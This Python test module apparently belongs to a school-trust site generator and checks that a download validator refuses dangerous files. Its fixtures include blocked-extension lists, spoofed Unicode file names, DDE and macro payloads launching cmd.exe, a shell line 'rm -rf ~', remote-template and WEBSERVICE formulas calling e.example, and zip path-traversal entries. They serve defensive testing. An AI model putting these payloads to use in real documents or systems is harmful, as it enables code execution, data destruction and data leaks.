"""Files that run, or are not what they say, among the downloads of a small trust.

Each must be refused: told as must-fix, so that nothing is built. A harmless one of each kind is
tried as well, which must pass.
"""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial
from pathlib import Path

from benchmarks.attacks.attack import Attempt
from generator.model.diagnostics import Severity
from generator.model.year import Year
from tests.samples import archive, drawing, film, pdf, photo, slides, sound, word, workbook
from tests.writing import page, write_trust, year_of

FOLDER = "subjects/music/notes"
HTML = b"<!doctype html><script>alert(1)</script>"
EXE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + b"\0" * 64
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EXTERNAL = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)
RELS = "word/_rels/document.xml.rels"

REFUSED_ENDINGS = """
    html htm xhtml xht xml shtml svgz js mjs cjs hta htc exe lnk url bat cmd com scr pif ps1 psm1 vbs
    vbe wsf wsh msi jar jnlp swf php phtml php5 asp aspx jsp cgi pl docm xlsm pptm dotm xlam xltm
    potm ppam ppsm sldm xlsb doc xls ppt dot pps vcf eml msg mbox pst ost mdb accdb mde css wasm
    mht mhtml xsl xslt rss atom rdf sh command app dmg iso apk deb reg inf scf cpl dll sys desktop
    webloc chm hlp iqy slk odc settingcontent-ms appref-ms application gadget py rar 7z tar gz bin
    json ts map webmanifest appcache manifest torrent xyz
""".split()

REFUSED_NAMES = (
    *("plan.pdf.exe", "plan.PDF.EXE", "plan.exe.pdf", "x.php.jpg", "x.PHP.jpg", "x.html.pdf"),
    *("x.asp;.jpg", "x.php%00.jpg", "x.js.txt", "x.svg.html", "x.shtml.png", "x.phtml.csv"),
    *(
        "plan.exe ",
        "plan.exe.",
        "plan.pdf ",
        "plan.pdf.",
        " plan.pdf",
        "plan.html..",
        "plan.html . ",
    ),
    *(
        "plan\u202efdp.exe",
        "plan\u202excod.pdf",
        "pl\u200ban.pdf",
        "plan\u00adx.pdf",
        "plan\u2066.pdf",
    ),
    *(
        "plan\u200f.pdf",
        "pl\ufeffan.pdf",
        "plan\t.pdf",
        "plan.pdf\u00a0",
        "plan.ＨＴＭＬ",
        "plan.htmｌ",
    ),
    *("plan．exe．pdf", "plan.exe .pdf", "Plan.HtMl", "noending", "page.yaml", "page.markdown"),
    *("x.cgi.zip", "x.jsp.docx", "index.html", "web.config", ".hidden.html.pdf.exe", "a.b.c.hta"),
)

DISGUISES = {
    "an HTML page called .jpg": ("a.jpg", HTML),
    "an HTML page called .csv": ("a.csv", HTML),
    "an HTML page called .txt": ("a.txt", HTML),
    "an HTML page called .pdf": ("a.pdf", HTML),
    "an HTML page called .docx": ("a.docx", HTML),
    "an HTML page called .mp3": ("a.mp3", HTML),
    "an HTML page called .zip": ("a.zip", HTML),
    "an HTML page called .ics": ("a.ics", HTML),
    "an HTML page called .vtt": ("a.vtt", HTML),
    "an HTML page called .rtf": ("a.rtf", HTML),
    "an HTML page called .midi": ("a.midi", HTML),
    "an HTML page of an added ending": ("a.ggb", HTML),
    "HTML after blanks": ("a.txt", b" \t\r\n\n" + HTML),
    "HTML after a BOM": ("a.txt", b"\xef\xbb\xbf" + HTML),
    "HTML in UTF-16": ("a.txt", HTML.decode().encode("utf-16")),
    "HTML in UTF-16 without a BOM": ("a.csv", HTML.decode().encode("utf-16-le")),
    "HTML in UTF-32": ("a.txt", HTML.decode().encode("utf-32")),
    "a comment first": ("a.txt", b"<!-- x --><script>alert(1)</script>"),
    "XML with a style sheet": ("a.txt", b'<?xml version="1.0"?><?xml-stylesheet href="x"?><a/>'),
    "an SVG called .txt": ("a.txt", drawing("<script>alert(1)</script>")),
    "an SVG called .png": ("a.png", drawing("<script>alert(1)</script>")),
    "a lone tag": ("a.csv", b"<a href=javascript:alert(1)>x</a>"),
    "PDF that begins with HTML": ("a.pdf", HTML + pdf()),
    "PDF after junk": ("a.pdf", b"junk junk" + pdf()),
    "PDF with an archive at its end": ("a.pdf", pdf() + archive({"x.txt": "x"})),
    "JPEG with an archive at its end": ("a.jpg", photo(placed=False) + archive({"x.txt": "x"})),
    "PNG with an archive at its end": ("a.png", photo("PNG", placed=False) + archive({"x": "x"})),
    "MP3 with an archive at its end": ("a.mp3", sound() + archive({"x.txt": "x"})),
    "MP4 with an archive at its end": ("a.mp4", film(placed=False) + archive({"x.txt": "x"})),
    "CSV with an archive at its end": ("a.csv", b"a,b\n" + archive({"x.txt": "x"})),
    "ZIP with a program before it": ("a.zip", EXE + archive({"x.txt": "x"})),
    "ZIP with HTML before it": ("a.zip", HTML + archive({"x.txt": "x"})),
    "docx with HTML before it": ("a.docx", HTML + word("x")),
    "docx with junk before it": ("a.docx", b"junk" + word("x")),
    "a program called .pdf": ("a.pdf", EXE),
    "a program called .docx": ("a.docx", EXE),
    "a program called .jpg": ("a.jpg", EXE),
    "a program called .txt": ("a.txt", EXE),
    "a program called .ggb": ("a.ggb", EXE),
    "a program of Linux called .csv": ("a.csv", b"\x7fELF\2\1\1" + b"\0" * 60),
    "a shell script called .txt": ("a.txt", b"#!/bin/sh\nrm -rf ~\n"),
    "a shortcut called .pdf": ("a.pdf", b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F"),
    "an old .doc called .docx": ("a.docx", OLD),
    "an old .xls called .csv": ("a.csv", OLD),
    "an archive called .docx": ("a.docx", archive({"x.txt": "x"})),
    "an archive called .pdf": ("a.pdf", archive({"x.txt": "x"})),
    "an archive called .jpg": ("a.jpg", archive({"x.txt": "x"})),
    "an archive called .txt": ("a.txt", archive({"x.txt": "x"})),
    "a workbook called .docx": ("a.docx", workbook()),
    "a PowerPoint called .xlsx": ("a.xlsx", slides()),
    "a Word document called .epub": ("a.epub", word("x")),
    "a jar called .zip": ("a.zip", archive({"META-INF/MANIFEST.MF": "x", "A.class": b"x"})),
    "a PDF called .txt": ("a.txt", pdf()),
    "a PDF called .png": ("a.png", pdf()),
    "RTF called .txt": ("a.txt", b"{\\rtf1 x}"),
    "GIF that is a script": ("a.gif", b"GIF89a=1;alert(1)//"),
    "RAR called .zip": ("a.zip", b"Rar!\x1a\x07\0" + b"\0" * 40),
    "Flash called .mp4": ("a.mp4", b"FWS\x09" + b"\0" * 40),
    "junk called .png": ("a.png", b"junk that is no picture"),
    "junk called .mp3": ("a.mp3", b"junk that is no sound"),
    "bytes called .txt": ("a.txt", bytes(range(256)) * 4),
}

ACTIVE = {
    "docx with vbaProject": ("a.docx", word("x", {"word/vbaProject.bin": b"x"})),
    "docx with VBAPROJECT elsewhere": ("a.docx", word("x", {"custom/VbaProject.bin": b"x"})),
    "docx with ActiveX": ("a.docx", word("x", {"word/activeX/activeX1.xml": "<x/>"})),
    "docx with OLE": ("a.docx", word("x", {"word/embeddings/oleObject1.bin": OLD})),
    "docx of macros by its type": (
        "a.docx",
        word("x", {"[Content_Types].xml": "<Override ContentType='x.macroEnabled.main+xml'/>"}),
    ),
    "docx with a template of the web": (
        "a.docx",
        word(
            "x", {RELS: EXTERNAL.format(kind="attachedTemplate", target="http://e.example/x.dotm")}
        ),
    ),
    "docx with a template of a server": (
        "a.docx",
        word(
            "x", {RELS: EXTERNAL.format(kind="attachedTemplate", target="file:///\\\\e.example\\x")}
        ),
    ),
    "docx with a picture of the web": (
        "a.docx",
        word("x", {RELS: EXTERNAL.format(kind="image", target="https://e.example/x.png")}),
    ),
    "docx with an object of the web": (
        "a.docx",
        word("x", {RELS: EXTERNAL.format(kind="oleObject", target="mhtml:https://e.example/x!x")}),
    ),
    "docx with a frame of the web": (
        "a.docx",
        word("x", {RELS: EXTERNAL.format(kind="frame", target="https://e.example/")}),
    ),
    "docx with DDE": (
        "a.docx",
        word(
            "x",
            {"word/document.xml": "<w:p><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>"},
        ),
    ),
    "docx with DDE in pieces": (
        "a.docx",
        word(
            "x",
            {
                "word/document.xml": "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r>"
                '<w:instrText xml:space="preserve">E cmd x</w:instrText></w:r></w:p>'
            },
        ),
    ),
    "docx with DDE in a simple field": (
        "a.docx",
        word("x", {"word/header1.xml": '<w:fldSimple w:instr="DDE cmd x"><w:r/></w:fldSimple>'}),
    ),
    "docx with DDE as numbers": (
        "a.docx",
        word("x", {"word/document.xml": "<w:instrText>QUOTE 68 68 69 32 99</w:instrText>"}),
    ),
    "docx with DDE in UTF-16": (
        "a.docx",
        word("x", {"word/document.xml": "<w:instrText>DDE cmd</w:instrText>".encode("utf-16")}),
    ),
    "docx with a page as a chunk": (
        "a.docx",
        word("x", {"word/afchunk.html": "<script>1</script>"}),
    ),
    "docx that includes a picture of the web": (
        "a.docx",
        word(
            "x",
            {
                "word/document.xml": '<w:instrText>INCLUDEPICTURE "http://e.example/x.png"</w:instrText>'
            },
        ),
    ),
    "docx that includes a file of a server": (
        "a.docx",
        word(
            "x", {"word/document.xml": '<w:instrText>INCLUDETEXT "\\\\e.example\\x"</w:instrText>'}
        ),
    ),
    "xlsx that asks the web": (
        "a.xlsx",
        workbook(
            {"xl/worksheets/sheet2.xml": '<c><f>_xlfn.WEBSERVICE("http://e.example/")</f></c>'}
        ),
    ),
    "CSV that asks the web": ("a.csv", b'a,b\n=WEBSERVICE("http://e.example/"&A1),2\n'),
    "EPUB with a drawing that runs": (
        "a.epub",
        archive({"META-INF/container.xml": "<x/>", "a.svg": drawing("<script>alert(1)</script>")}),
    ),
    "xlsx with a macro sheet": ("a.xlsx", workbook({"xl/macrosheets/sheet1.xml": "<x/>"})),
    "xlsx with DDE": (
        "a.xlsx",
        workbook({"xl/externalLinks/externalLink1.xml": "<ddeLink x='1'/>"}),
    ),
    "xlsx with a formula of DDE": (
        "a.xlsx",
        workbook({"xl/worksheets/sheet2.xml": "<c><f>cmd|'/c calc'!A0</f></c>"}),
    ),
    "xlsx with vbaProject": ("a.xlsx", workbook({"xl/vbaProject.bin": b"x"})),
    "pptx with vbaProject": ("a.pptx", slides({"ppt/vbaProject.bin": b"x"})),
    "pptx with OLE": ("a.pptx", slides({"ppt/embeddings/oleObject1.bin": OLD})),
    "CSV with DDE": ("a.csv", b"a,b\n=cmd|'/C calc'!A0,2\n"),
    "CSV with DDE in quotes": ("a.csv", b"a,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n"),
    "CSV with DDE after a tab": ("a.tsv", b"a\t+cmd|' /C calc'!A0\n"),
    "RTF with an object": ("a.rtf", b"{\\rtf1{\\object\\objautlink\\objdata 0105}}"),
    "RTF with a template": ("a.rtf", b"{\\rtf1{\\*\\template http://e.example/x}}"),
    "ODT with a macro": (
        "a.odt",
        archive({"content.xml": "<text:p>x</text:p>", "Basic/Standard/Module1.xml": "<x/>"}),
    ),
    "ODT with an event": (
        "a.odt",
        archive({"content.xml": '<script:event-listener script:event-name="dom:load"/>'}),
    ),
    "EPUB with a script": (
        "a.epub",
        archive({"META-INF/container.xml": "<x/>", "a.xhtml": "<script>alert(1)</script>"}),
    ),
    "EPUB with a handler": (
        "a.epub",
        archive({"META-INF/container.xml": "<x/>", "a.xhtml": '<p onclick="x()">x</p>'}),
    ),
    "PDF with a script": ("a.pdf", pdf(script="app.alert(1)")),
    "PDF that launches": ("a.pdf", pdf(action={"/S": "/Launch", "/F": "cmd.exe"})),
    "PDF that sends a form": (
        "a.pdf",
        pdf(action={"/S": "/SubmitForm", "/F": "https://e.example"}),
    ),
    "PDF that imports": ("a.pdf", pdf(action={"/S": "/ImportData", "/F": "x"})),
    "PDF with a script in an escaped name": (
        "a.pdf",
        pdf(script="app.alert(1)").replace(b"/JavaScript", b"/J#61vaScript"),
    ),
    "PDF with a program in it": ("a.pdf", pdf(attached={"setup.exe": EXE})),
    "ZIP with a program": ("a.zip", archive({"setup.exe": EXE})),
    "ZIP with a page": ("a.zip", archive({"index.html": HTML})),
    "ZIP with a program called .pdf": ("a.zip", archive({"a.pdf": EXE})),
    "ZIP with a macro document": ("a.zip", archive({"a.docm": word("x")})),
    "ZIP with a docx of macros": (
        "a.zip",
        archive({"a.docx": word("x", {"word/vbaProject.bin": b"x"})}),
    ),
    "ZIP that unpacks elsewhere": ("a.zip", archive({"../../a.pdf": pdf()})),
    "ZIP that unpacks at the root": ("a.zip", archive({"/etc/a.pdf": pdf()})),
    "ZIP that unpacks on a drive": ("a.zip", archive({"C:\\a.pdf": pdf()})),
    "ZIP with an archive": ("a.zip", archive({"a.zip": archive({"x.txt": "x"})})),
    "ZIP with a drawing that runs": (
        "a.zip",
        archive({"a.svg": drawing("<script>alert(1)</script>")}),
    ),
    "ZIP with a file without ending": ("a.zip", archive({"run": "#!/bin/sh"})),
    "ZIP with a hidden name": ("a.zip", archive({"a\u202efdp.exe": EXE})),
    "docx with a docx of macros": (
        "a.docx",
        word("x", {"word/embeddings/a.docx": word("x", {"word/vbaProject.bin": b"x"})}),
    ),
}

HARMLESS = {
    "a.pdf": pdf(),
    "a.docx": word("Clap and hum"),
    "a.pptx": slides(),
    "a.xlsx": workbook(),
    "a.txt": b"Dde, ddx: a < b and <3\n",
    "a.csv": b"name,beats\n=A1+B1,-4\n@home,+2\n",
    "a.rtf": b"{\\rtf1\\ansi Clap}",
    "a.jpg": photo(placed=False),
    "a.png": photo("PNG", placed=False),
    "a.gif": photo("GIF", placed=False),
    "a.webp": photo("WEBP", placed=False),
    "a.avif": photo("AVIF", placed=False),
    "a.bmp": photo("BMP", placed=False),
    "a.tif": photo("TIFF", placed=False),
    "a-png-in-truth.jpg": photo("PNG", placed=False),
    "a.svg": drawing(),
    "a.mp3": sound("Clap"),
    "a.mp4": film(placed=False),
    "a.mov": film(placed=False, brand=b"qt  "),
    "a.m4a": film(placed=False, brand=b"M4A "),
    "a.zip": archive({"x.txt": "x", "folder/a.pdf": pdf(), "__MACOSX/._a.pdf": b"\0\5"}),
    "a.ggb": archive({"geogebra.xml": "<x/>"}),
    "v1.2-final.docx": word("x"),
    "diamond-war-class.svg": drawing(),
    "B.PDF": pdf(),
}


def attempts() -> Iterator[Attempt]:
    """One trust for each lot of files, and within it each file by itself."""
    names = [f"a.{ending}" for ending in REFUSED_ENDINGS] + list(REFUSED_NAMES)
    for name in names:
        yield Attempt(f"published as {name!r}", partial(_refused, {name: b"clap"}))
    for said, (name, data) in (DISGUISES | ACTIVE).items():
        yield Attempt(said, partial(_refused, {name: data}))
    yield Attempt("harmless files pass", _harmless_pass)
    yield Attempt("a file that no page links to", partial(_refused, {"a.html": HTML}, linked=False))
    yield Attempt("a file beside a topic", partial(_beside, "content/topics"))
    yield Attempt("a file of the portal", partial(_beside, "content/about"))
    for ending in (
        ".html",
        ".js",
        ".svgz",
        ".exe",
        ".php",
        ".docm",
        ".doc",
        ".vcf",
        "html",
        ".a b",
        "",
    ):
        yield Attempt(f"the trust adds {ending!r}", partial(_cannot_be_added, ending))


def _must_fix(root: Path, files: dict[str, bytes], linked: bool = True) -> tuple[Year, set[str]]:
    trust = (write_trust(root, {}) / "content" / "trust.yml").read_text(encoding="utf-8")
    links = "".join(f"\n[Clap {n}](<{name}>)\n" for n, name in enumerate(files) if linked)
    year = year_of(
        root,
        {
            "content/trust.yml": f"{trust}downloads: [.ggb]\n",
            f"{FOLDER}/page-of-links.md": page("Links", links),
            **{f"{FOLDER}/{name}": data for name, data in files.items()},
        },
    )
    told = {each.file for each in year.checked.found if each.severity is Severity.MUST_FIX}
    return year, told


def _refused(files: dict[str, bytes], root: Path, *, linked: bool = True) -> str:
    try:
        year, told = _must_fix(root, files, linked)
    except OSError:
        return ""  # the system has no file of that name
    there = {path for path in year.catalogue.files if path.startswith(f"{FOLDER}/")}
    untold = there - told - {f"{FOLDER}/page-of-links.md"}
    return f"{untold} would be published" if untold else ""


def _harmless_pass(root: Path) -> str:
    _, told = _must_fix(root, HARMLESS)
    return f"refused: {sorted(told)}" if told else ""


def _beside(folder: str, root: Path) -> str:
    year = year_of(root, {f"{folder}/a.html": HTML})
    told = {each.file for each in year.checked.found if each.severity is Severity.MUST_FIX}
    return "" if f"{folder}/a.html" in told else f"{folder}/a.html is published"


def _cannot_be_added(ending: str, root: Path) -> str:
    trust = (write_trust(root, {}) / "content" / "trust.yml").read_text(encoding="utf-8")
    year = year_of(root, {"content/trust.yml": f'{trust}downloads: ["{ending}"]\n'})
    told = {each.file for each in year.checked.found if each.severity is Severity.MUST_FIX}
    return "" if "content/trust.yml" in told else f"{ending} was added"
